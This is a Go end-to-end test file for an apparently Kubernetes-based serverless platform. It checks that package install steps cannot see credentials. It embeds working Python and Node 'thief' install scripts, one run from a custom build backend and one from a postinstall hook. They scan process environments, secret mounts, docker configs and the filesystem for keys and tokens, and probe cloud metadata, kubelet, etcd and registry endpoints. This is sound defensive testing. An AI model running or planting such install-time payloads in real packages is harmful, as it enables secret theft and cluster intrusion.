package e2e

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"

	"github.com/naeel/sless/api/names"
	"github.com/naeel/sless/api/v1alpha1"
)

// Two install scripts that look wherever credentials are known to lie: environments, files, mounts, other processes, and what can be
// reached from the pod. Each leaves what it found as a module. They get the addresses to try, and a registry's to push to.
const (
	pythonThief = `
import glob, json, os, re, socket, urllib.error, urllib.request
found, targets = [], json.load(open('targets.json'))
def read(path, most=1 << 20):
    try:
        with open(path, 'rb') as file:
            return file.read(most)
    except OSError:
        return b''
for environ in glob.glob('/proc/[0-9]*/environ'):
    for pair in read(environ).split(b'\0'):
        name = pair.partition(b'=')[0].decode(errors='replace')
        if re.search('TOKEN|SECRET|PASSW|CREDENTIAL|DOCKER|AWS|AUTH', name, re.I):
            found.append('env ' + name)
for path in ('/kaniko', '/var/run/secrets', '/run/secrets', '/root/.docker', os.path.expanduser('~/.docker'), os.path.expanduser('~/.netrc'), '/etc/sless-index', '/etc/sless-parcel'):
    if os.path.exists(path):
        found.append('path ' + path)
for line in read('/proc/self/mountinfo').decode().splitlines():
    if re.search('secret|token|docker|kaniko', line.split()[4]):
        found.append('mount ' + line.split()[4])
looks = re.compile(rb'"auths"\s*:\s*\{\s*"|-----BEGIN [A-Z ]*PRIVATE KEY-----\s+[A-Za-z0-9+/]{40}|eyJhbGciOi[A-Za-z0-9_-]{20,}\.eyJ')
for folder, folders, files in os.walk('/'):
    folders[:] = [f for f in folders if os.path.join(folder, f) not in ('/proc', '/sys')]
    for name in files:
        path = os.path.join(folder, name)
        if os.path.isfile(path) and not os.path.islink(path) and looks.search(read(path)):
            found.append('file ' + path)
for pid in glob.glob('/proc/[0-9]*'):
    command = read(pid + '/cmdline')
    if b'kaniko' in command or b'operator' in command:
        found.append('process ' + command.decode(errors='replace'))
for address in targets['addresses'] + [os.environ.get('KUBERNETES_SERVICE_HOST', '192.0.2.1') + ':443']:
    host, port = address.rsplit(':', 1)
    try:
        socket.create_connection((host, int(port)), 2).close()
        found.append('reached ' + address)
    except OSError:
        pass
for method, path in targets['registry']['requests']:
    request = urllib.request.Request(targets['registry']['url'] + path, method=method, data=b'' if method == 'POST' else None)
    try:
        found.append('registry %s %s: %d' % (method, path, urllib.request.urlopen(request, timeout=10).status))
    except urllib.error.HTTPError as err:
        if err.code not in (401, 403):
            found.append('registry %s %s: %d' % (method, path, err.code))
text = json.dumps({'uid': os.getuid(), 'found': found})
`
	nodeThief = `
const fs = require('fs'), net = require('net'), path = require('path');
const found = [], targets = JSON.parse(fs.readFileSync('targets.json', 'utf8'));
const read = (file) => { try { return fs.readFileSync(file, 'latin1'); } catch { return ''; } };
for (const pid of fs.readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
  for (const pair of read('/proc/' + pid + '/environ').split('\0')) {
    const name = pair.split('=')[0];
    if (/TOKEN|SECRET|PASSW|CREDENTIAL|DOCKER|AWS|AUTH/i.test(name)) found.push('env ' + name);
  }
  if (/kaniko|operator/.test(read('/proc/' + pid + '/cmdline'))) found.push('process ' + pid);
}
for (const file of ['/kaniko', '/var/run/secrets', '/run/secrets', '/root/.docker', '/tmp/.docker', '/tmp/.netrc', '/tmp/.npmrc', '/etc/sless-index', '/etc/sless-parcel']) {
  if (fs.existsSync(file)) found.push('path ' + file);
}
const looks = /"auths"\s*:\s*\{\s*"|-----BEGIN [A-Z ]*PRIVATE KEY-----\s+[A-Za-z0-9+\/]{40}|eyJhbGciOi[A-Za-z0-9_-]{20,}\.eyJ/;
const walk = (folder) => {
  let entries = [];
  try { entries = fs.readdirSync(folder, { withFileTypes: true }); } catch { return; }
  for (const entry of entries) {
    const full = path.join(folder, entry.name);
    if (entry.isDirectory() && !['/proc', '/sys'].includes(full)) walk(full);
    if (entry.isFile() && fs.statSync(full).size < 1 << 20 && looks.test(read(full))) found.push('file ' + full);
  }
};
walk('/');
const reach = (address) => new Promise((resolve) => {
  const [host, port] = address.split(':');
  const socket = net.connect({ host, port, timeout: 2000 });
  socket.on('connect', () => { found.push('reached ' + address); socket.destroy(); resolve(); });
  socket.on('timeout', () => { socket.destroy(); resolve(); });
  socket.on('error', resolve);
});
(async () => {
  for (const address of [...targets.addresses, (process.env.KUBERNETES_SERVICE_HOST || '192.0.2.1') + ':443']) await reach(address);
  for (const [method, where] of targets.registry.requests) {
    const { status } = await fetch(targets.registry.url + where, { method });
    if (![401, 403].includes(status)) found.push('registry ' + method + ' ' + where + ': ' + status);
  }
  fs.mkdirSync('node_modules/found', { recursive: true });
  fs.writeFileSync('node_modules/found/index.js', 'module.exports = ' + JSON.stringify({ uid: process.getuid(), found }) + ';');
})();
`
)

// An install script finds no credential, and nothing that would take it further; neither does the function that it comes with.
func TestInstallStepSeesNoCredential(t *testing.T) {
	t.Parallel()
	namespace := newNamespace(t)
	targets := thiefTargets(t, namespace)
	python := localPackage("thief", pythonThief)
	python["handler.py"], python["thief/targets.json"] = "import json, thief\ndef handle(event):\n    return json.loads(thief.text)\n", targets
	apply(t, namespace, function("python", "python3.11", python)+httpTrigger("python"))
	apply(t, namespace, function("node", "nodejs20", map[string]string{
		"handler.js":   "exports.handle = async () => require('found');\n",
		"package.json": `{"name": "thief", "version": "1.0.0", "scripts": {"postinstall": "node steal.js"}, "dependencies": {"is-number": "7.0.0"}}`,
		"steal.js":     nodeThief, "targets.json": targets,
	})+httpTrigger("node"))
	for _, name := range []string{"python", "node"} {
		waitFunction(t, namespace, name, "True", v1alpha1.ReasonReady)
		var got struct {
			UID   int
			Found []string
		}
		if err := json.Unmarshal([]byte(mustCall(t, "GET", namespace, name, "", "", 200).body), &got); err != nil {
			t.Fatal(err)
		}
		if got.UID != 65532 || got.Found == nil || len(got.Found) > 0 {
			t.Errorf("%s: the install script, as user %d, found %q", name, got.UID, got.Found)
		}
	}
}

// thiefTargets is what an install script may try: the node, cloud metadata, the platform's pods, and the registry without a password.
func thiefTargets(t *testing.T, namespace string) string {
	t.Helper()
	addresses := []string{"169.254.169.254:80"}
	nodes, pods := &corev1.NodeList{}, &corev1.PodList{}
	if err := kube.List(t.Context(), nodes); err != nil {
		t.Fatal(err)
	}
	for _, port := range []int{10250, 6443, 2379} {
		addresses = append(addresses, fmt.Sprintf("%s:%d", nodes.Items[0].Status.Addresses[0].Address, port))
	}
	if err := kube.List(t.Context(), pods); err != nil {
		t.Fatal(err)
	}
	for _, pod := range pods.Items {
		if pod.Namespace == names.SystemNamespace && pod.Status.PodIP != "" {
			for _, port := range []int{8080, 8081, 8082, 9090} {
				addresses = append(addresses, fmt.Sprintf("%s:%d", pod.Status.PodIP, port))
			}
		}
	}
	platform := readPlatform(t)
	scheme := "https://"
	if platform.Registry.Insecure {
		scheme = "http://"
	}
	own := "/v2/sless-" + namespace
	targets, err := json.Marshal(map[string]any{"addresses": addresses, "registry": map[string]any{
		"url":      scheme + platform.Registry.Host,
		"requests": [][2]string{{"POST", own + "/blobs/uploads/"}, {"GET", own + "/tags/list"}, {"GET", "/v2/_catalog"}, {"GET", "/v2/sless/operator/tags/list"}},
	}})
	if err != nil {
		t.Fatal(err)
	}
	return string(targets)
}

// localPackage is a requirement whose build runs some lines of Python, in the package's folder, without asking an index for anything. Its
// module has the text that the lines leave as its own.
func localPackage(name, lines string) map[string]string {
	return map[string]string{
		"requirements.txt":       "./" + name + "\n",
		name + "/pyproject.toml": "[build-system]\nrequires = []\nbuild-backend = 'backend'\nbackend-path = ['.']\n",
		name + "/backend.py": fmt.Sprintf(`
import zipfile
text = ''
def work():
    global text%[2]s
def build_wheel(directory, config_settings=None, metadata_directory=None):
    work()
    wheel = '%[1]s-1-py3-none-any.whl'
    with zipfile.ZipFile(directory + '/' + wheel, 'w') as archive:
        archive.writestr('%[1]s.py', 'text = ' + repr(text))
        archive.writestr('%[1]s-1.dist-info/METADATA', 'Metadata-Version: 2.1\nName: %[1]s\nVersion: 1\n')
        archive.writestr('%[1]s-1.dist-info/WHEEL', 'Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n')
        archive.writestr('%[1]s-1.dist-info/RECORD', '')
    return wheel
`, name, strings.ReplaceAll(lines, "\n", "\n    ")),
	}
}
